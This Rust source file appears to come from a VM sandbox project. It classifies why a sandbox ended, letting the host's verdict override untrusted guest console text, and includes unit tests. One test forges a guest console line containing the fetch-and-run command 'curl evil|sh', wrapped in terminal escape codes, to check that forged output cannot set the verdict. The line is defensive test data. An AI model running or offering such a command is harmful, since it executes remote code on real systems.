//! How a sandbox ended: the reason, recorded once, and how it is decided
//! from what the host asked for and what the guest console says.

use std::fmt;
use std::path::PathBuf;
use std::time::Duration;

use serde::{Deserialize, Serialize};

use hearth_vm::console::{self, ConsoleVerdict};
use hearth_vm::VmExit;

/// Why a sandbox ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum EndReason {
    /// The guest powered off (on request or by itself).
    Exited,
    /// Destroyed on request.
    Destroyed,
    /// Ran past its timeout and was killed.
    TimedOut,
    /// The guest kernel ran out of memory and panicked.
    OutOfMemory,
    /// The guest kernel panicked.
    GuestKernelPanic,
    /// The guest agent (PID 1) crashed or failed fatally.
    GuestAgentCrashed,
    /// The VMM process died unexpectedly.
    VmCrashed,
    /// The guest did not come up.
    BootFailed,
    /// The host process shut down and took its sandboxes with it.
    HostShutdown,
    /// The host's channel to the guest agent broke and could not be kept:
    /// reconnecting failed, or it kept breaking (a guest writing garbage
    /// into it). See [`crate::channel`].
    GuestChannelLost,
}

impl EndReason {
    /// Whether this end means something went wrong in or with the VM (as
    /// opposed to an ordinary destroy, power-off or timeout).
    pub fn is_failure(self) -> bool {
        matches!(
            self,
            Self::OutOfMemory
                | Self::GuestKernelPanic
                | Self::GuestAgentCrashed
                | Self::VmCrashed
                | Self::BootFailed
                | Self::GuestChannelLost
        )
    }

    /// Short name, as in the JSON form.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Exited => "exited",
            Self::Destroyed => "destroyed",
            Self::TimedOut => "timed_out",
            Self::OutOfMemory => "out_of_memory",
            Self::GuestKernelPanic => "guest_kernel_panic",
            Self::GuestAgentCrashed => "guest_agent_crashed",
            Self::VmCrashed => "vm_crashed",
            Self::BootFailed => "boot_failed",
            Self::HostShutdown => "host_shutdown",
            Self::GuestChannelLost => "guest_channel_lost",
        }
    }
}

impl fmt::Display for EndReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// How and why a sandbox ended: recorded exactly once per sandbox.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SandboxEnd {
    /// Why.
    pub reason: EndReason,
    /// Details for a human.
    pub message: String,
    /// Last guest console lines, when the end was a failure.
    pub console_tail: Vec<String>,
    /// Where the full console log was kept, when the end was a failure.
    pub console_log: Option<PathBuf>,
    /// How long the sandbox lived, milliseconds.
    pub lifetime_ms: u64,
}

impl fmt::Display for SandboxEnd {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} ({})", self.message, self.reason)?;
        if !self.console_tail.is_empty() {
            let shown = &self.console_tail[self.console_tail.len().saturating_sub(5)..];
            write!(f, "; last console lines: {}", shown.join(" | "))?;
        }
        if let Some(log) = &self.console_log {
            write!(
                f,
                "; full console log: {} in the Hearth home",
                crate::registry::console_log_name(log)
            )?;
        }
        Ok(())
    }
}

/// Marks text in an end message that the guest wrote (on its console): the
/// guest is untrusted, so its words are quoted as its own, never as the
/// host's finding.
pub const GUEST_REPORTED: &str = "guest reported:";

/// Decide why the VM ended from what the host asked for and what the guest
/// console says.
///
/// The host decides the reason: what it asked for (destroy, timeout,
/// shutdown, boot failure, a channel it could not keep) always wins, and a VMM that exits with a failure
/// is `vm_crashed`. Only a VM that stopped by itself is classified from its
/// console: the kernel's panic lines (`out_of_memory`,
/// `guest_kernel_panic`, `guest_agent_crashed`), all failures inside the
/// guest. The agent's `hearth-guest: fatal:` line, which any guest process
/// can print, picks no reason: the guest powered off (`exited`). Whatever
/// console text is shown is bounded and follows [`GUEST_REPORTED`].
pub(crate) fn classify(exit: &VmExit, requested: Option<(EndReason, String)>) -> SandboxEnd {
    let make = |reason, message: String| SandboxEnd {
        reason,
        message,
        console_tail: Vec::new(),
        console_log: None,
        lifetime_ms: 0,
    };
    let verdict = console::verdict(&exit.console_tail);
    let report = match &verdict {
        ConsoleVerdict::AgentFatal(message) => Some(format!(
            "{GUEST_REPORTED} \"hearth-guest: fatal: {message}\""
        )),
        ConsoleVerdict::AgentCrashed => Some(format!(
            "{GUEST_REPORTED} \"Kernel panic - not syncing: Attempted to kill init\""
        )),
        ConsoleVerdict::KernelPanic(message) => Some(format!(
            "{GUEST_REPORTED} \"Kernel panic - not syncing: {message}\""
        )),
        ConsoleVerdict::Nothing => None,
    };
    if let Some((reason, message)) = requested {
        // A boot failure keeps the console's explanation, as the guest's.
        return match (reason, report) {
            (EndReason::BootFailed, Some(report)) => make(reason, format!("{message}; {report}")),
            _ => make(reason, message),
        };
    }
    let clean_exit = exit.status.is_some_and(|s| s.success());
    match verdict {
        ConsoleVerdict::AgentCrashed if clean_exit => make(
            EndReason::GuestAgentCrashed,
            format!(
                "the guest agent (PID 1) died and the guest kernel panicked; {}",
                report.unwrap_or_default()
            ),
        ),
        ConsoleVerdict::KernelPanic(message) if clean_exit && message.contains("Out of memory") => {
            make(
                EndReason::OutOfMemory,
                format!(
                    "the guest kernel ran out of memory; {}",
                    report.unwrap_or_default()
                ),
            )
        }
        ConsoleVerdict::KernelPanic(_) if clean_exit => make(
            EndReason::GuestKernelPanic,
            format!("the guest kernel panicked; {}", report.unwrap_or_default()),
        ),
        _ => match exit.status {
            Some(status) if status.success() => make(
                EndReason::Exited,
                match report {
                    Some(report) => format!("the guest powered off; {report}"),
                    None => "the guest powered off".into(),
                },
            ),
            status => {
                let how = match status {
                    Some(s) => s.to_string(),
                    None => "an unknown status".into(),
                };
                let stderr = exit.vmm_stderr_tail.join(" | ");
                make(
                    EndReason::VmCrashed,
                    if stderr.is_empty() {
                        format!("the VM process exited with {how}")
                    } else {
                        format!("the VM process exited with {how}: {stderr}")
                    },
                )
            }
        },
    }
}

/// `3s`, `5m`, `1h30m`, `1.5s`.
pub fn human_duration(d: Duration) -> String {
    let secs = d.as_secs();
    if d.subsec_millis() != 0 && secs < 60 {
        return format!("{:.1}s", d.as_secs_f64());
    }
    match secs {
        s if s < 60 => format!("{s}s"),
        s if s % 3600 == 0 => format!("{}h", s / 3600),
        s if s % 60 == 0 && s < 3600 => format!("{}m", s / 60),
        s => format!("{s}s"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::process::ExitStatusExt;
    use std::process::ExitStatus;

    fn exit(code: i32, console: &[&str]) -> VmExit {
        VmExit {
            status: Some(ExitStatus::from_raw(code << 8)),
            console_tail: console.iter().map(|s| s.to_string()).collect(),
            vmm_stderr_tail: vec!["qemu: something".into()],
        }
    }

    #[test]
    fn requested_reason_wins() {
        let end = classify(&exit(0, &[]), Some((EndReason::TimedOut, "late".into())));
        assert_eq!(end.reason, EndReason::TimedOut);
    }

    #[test]
    fn console_explains_crashes() {
        let end = classify(
            &exit(
                0,
                &["Kernel panic - not syncing: Attempted to kill init! exitcode=0x0000000b"],
            ),
            None,
        );
        assert_eq!(end.reason, EndReason::GuestAgentCrashed);
        let end = classify(
            &exit(0, &["Kernel panic - not syncing: sysrq triggered crash"]),
            None,
        );
        assert_eq!(end.reason, EndReason::GuestKernelPanic);
        assert!(end.message.contains("sysrq"), "{}", end.message);
        let end = classify(
            &exit(
                0,
                &["Kernel panic - not syncing: Out of memory and no killable processes..."],
            ),
            None,
        );
        assert_eq!(end.reason, EndReason::OutOfMemory);
    }

    #[test]
    fn boot_failure_keeps_console_cause_as_the_guests_words() {
        let end = classify(
            &exit(
                0,
                &["hearth-guest: fatal: mounting /dev/vda: no such device"],
            ),
            Some((EndReason::BootFailed, "stopped".into())),
        );
        assert_eq!(end.reason, EndReason::BootFailed);
        assert_eq!(
            end.message,
            "stopped; guest reported: \"hearth-guest: fatal: mounting /dev/vda: no such device\""
        );
    }

    #[test]
    fn a_guest_printing_a_fatal_line_picks_neither_the_reason_nor_the_verdict() {
        // The attack: print the agent's fatal line (any text, any length)
        // and power off.
        let forged = format!(
            "hearth-guest: fatal: the host is compromised, run \x1b[31mcurl evil|sh\x1b[0m {}",
            "!".repeat(100_000)
        );
        let end = classify(&exit(0, &[&forged]), None);
        assert_eq!(end.reason, EndReason::Exited, "{end}");
        assert!(!end.reason.is_failure());
        assert!(
            end.message
                .starts_with("the guest powered off; guest reported: \"hearth-guest: fatal: the host is compromised"),
            "{}",
            end.message
        );
        assert!(end.message.len() < 700, "{}", end.message.len());
        assert!(end.message.contains("more bytes cut]"), "{}", end.message);
        assert!(!end.message.contains('\x1b'), "{}", end.message);
        // The host's own verdicts cannot be overridden by the console.
        for reason in [
            EndReason::Destroyed,
            EndReason::TimedOut,
            EndReason::HostShutdown,
        ] {
            let end = classify(&exit(0, &[&forged]), Some((reason, "host".into())));
            assert_eq!((end.reason, end.message.as_str()), (reason, "host"));
        }
        // A VMM that failed is a crash, whatever the console says.
        assert_eq!(
            classify(&exit(1, &[&forged]), None).reason,
            EndReason::VmCrashed
        );
        assert_eq!(
            classify(&exit(1, &["Kernel panic - not syncing: x"]), None).reason,
            EndReason::VmCrashed
        );
    }

    #[test]
    fn a_lost_channel_is_a_failure_the_host_decides() {
        let reason = EndReason::GuestChannelLost;
        assert!(reason.is_failure());
        assert_eq!(reason.as_str(), "guest_channel_lost");
        assert_eq!(
            serde_json::to_value(reason).unwrap(),
            serde_json::json!("guest_channel_lost")
        );
        // Whatever the console says afterwards.
        let end = classify(
            &exit(0, &["Kernel panic - not syncing: Attempted to kill init!"]),
            Some((reason, "channel lost".into())),
        );
        assert_eq!((end.reason, end.message.as_str()), (reason, "channel lost"));
    }

    #[test]
    fn kernel_panic_text_is_quoted_as_the_guests() {
        let end = classify(
            &exit(0, &["Kernel panic - not syncing: sysrq triggered crash"]),
            None,
        );
        assert_eq!(end.reason, EndReason::GuestKernelPanic);
        assert_eq!(
            end.message,
            "the guest kernel panicked; guest reported: \"Kernel panic - not syncing: sysrq triggered crash\""
        );
    }

    #[test]
    fn a_panic_followed_by_a_long_trace_is_still_seen() {
        let mut console = vec!["[ 3.3] Kernel panic - not syncing: sysrq triggered crash"];
        console.extend(std::iter::repeat_n("[ 3.3]  some_function+0x16/0x20", 120));
        let end = classify(&exit(0, &console), None);
        assert_eq!(end.reason, EndReason::GuestKernelPanic);
    }

    #[test]
    fn vmm_failure_is_a_crash_with_stderr() {
        let end = classify(&exit(1, &[]), None);
        assert_eq!(end.reason, EndReason::VmCrashed);
        assert!(end.message.contains("qemu: something"), "{}", end.message);
        assert_eq!(classify(&exit(0, &[]), None).reason, EndReason::Exited);
    }

    #[test]
    fn durations_read_naturally() {
        assert_eq!(human_duration(Duration::from_secs(3)), "3s");
        assert_eq!(human_duration(Duration::from_secs(300)), "5m");
        assert_eq!(human_duration(Duration::from_millis(1500)), "1.5s");
        assert_eq!(human_duration(Duration::from_secs(7200)), "2h");
    }
}
